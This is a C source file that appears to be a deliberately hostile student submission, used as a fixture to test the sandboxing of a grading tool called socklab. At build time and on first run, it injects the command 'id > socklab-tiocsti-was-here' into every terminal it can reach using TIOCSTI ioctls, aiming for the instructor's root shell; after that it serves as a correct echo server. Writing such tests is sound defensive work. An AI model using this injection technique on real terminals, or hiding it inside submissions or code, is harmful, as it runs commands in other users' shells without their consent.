/*
 * A hostile submission: it types a command into the terminal socklab was
 * started from, for the instructor's shell to run (as root) once `socklab
 * grade` returns: "id > socklab-tiocsti-was-here" and a newline, one
 * ioctl(TIOCSTI) per byte, into every terminal it can find -- /dev/tty
 * (its controlling terminal), its descriptors 0, 1 and 2, the same again
 * through /proc/self/fd, and each /dev/pts/N. Its Makefile runs it once
 * with --inject at build time; as the server it tries again at run time,
 * then serves as a correct concurrent echo server.
 *
 * tests/cmd/grade_hostile.sh grades it from a real terminal (pty_run), with
 * a shell that runs whatever line is waiting on that terminal afterwards,
 * and checks that the file was never made.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define COMMAND "id > socklab-tiocsti-was-here\n"

static const char *when = "run";

/* Types COMMAND into fd, a byte at a time, as if at the keyboard. */
static void type_into(const char *what, int fd)
{
	for (const char *c = COMMAND; *c; c++)
		if (ioctl(fd, TIOCSTI, c) < 0) {
			printf("tiocsti (%s): %s: %s\n", when, what, strerror(errno));
			return;
		}
	printf("tiocsti (%s): %s: TYPED the command\n", when, what);
}

static void type_into_path(const char *path)
{
	int fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);

	if (fd < 0) {
		printf("tiocsti (%s): %s: open: %s\n", when, path, strerror(errno));
		return;
	}
	type_into(path, fd);
	close(fd);
}

static void attack(void)
{
	char what[300];
	struct dirent *de;
	DIR *d;

	type_into_path("/dev/tty");
	for (int fd = 0; fd <= 2; fd++) {
		snprintf(what, sizeof(what), "fd %d", fd);
		type_into(what, fd);
		snprintf(what, sizeof(what), "/proc/self/fd/%d", fd);
		type_into_path(what);
	}
	if (!(d = opendir("/dev/pts")))
		printf("tiocsti (%s): /dev/pts: %s\n", when, strerror(errno));
	while (d && (de = readdir(d))) {
		if (de->d_name[0] == '.' || strcmp(de->d_name, "ptmx") == 0)
			continue;
		snprintf(what, sizeof(what), "/dev/pts/%.200s", de->d_name);
		type_into_path(what);
	}
	if (d)
		closedir(d);
	fflush(stdout);
}

/* ---- a correct echo server, fork per client (echo-fork/good.c) ---- */

static void reap(int sig)
{
	int saved = errno;

	(void)sig;
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
	errno = saved;
}

static int write_all(int fd, const char *buf, size_t len)
{
	while (len > 0) {
		ssize_t n = write(fd, buf, len);
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0)
			return -1;
		buf += n;
		len -= (size_t)n;
	}
	return 0;
}

static void echo(int conn)
{
	char buf[4096];
	ssize_t n;

	while ((n = read(conn, buf, sizeof(buf))) > 0 || (n < 0 && errno == EINTR))
		if (n > 0 && write_all(conn, buf, (size_t)n) < 0)
			break;
}

static int serve(const char *port)
{
	struct sockaddr_in addr = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_ANY)};
	struct sigaction sa = {.sa_handler = reap, .sa_flags = SA_RESTART};
	int listener, on = 1;

	sigemptyset(&sa.sa_mask);
	sigaction(SIGCHLD, &sa, NULL);
	addr.sin_port = htons((unsigned short)atoi(port));
	listener = socket(AF_INET, SOCK_STREAM, 0);
	if (listener < 0 || setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)) < 0 ||
	    bind(listener, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    listen(listener, 16) < 0) {
		perror("bind");
		return 1;
	}
	for (;;) {
		int conn = accept(listener, NULL, NULL);
		if (conn < 0) {
			if (errno == EINTR)
				continue;
			perror("accept");
			return 1;
		}
		if (fork() == 0) {
			close(listener);
			echo(conn);
			close(conn);
			_exit(0);
		}
		close(conn);
	}
}

/* Attacks once: the grader starts the server again (reuseaddr), and a
 * file in its folder remembers. */
static bool first_run(void)
{
	int fd = open("attacked-once", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);

	if (fd < 0)
		return false;
	close(fd);
	return true;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "--inject") == 0) {
		when = "build";
		attack();
		return 0;
	}
	if (argc != 2) {
		fprintf(stderr, "usage: %s PORT\n", argv[0]);
		return 2;
	}
	if (first_run())
		attack();
	return serve(argv[1]);
}
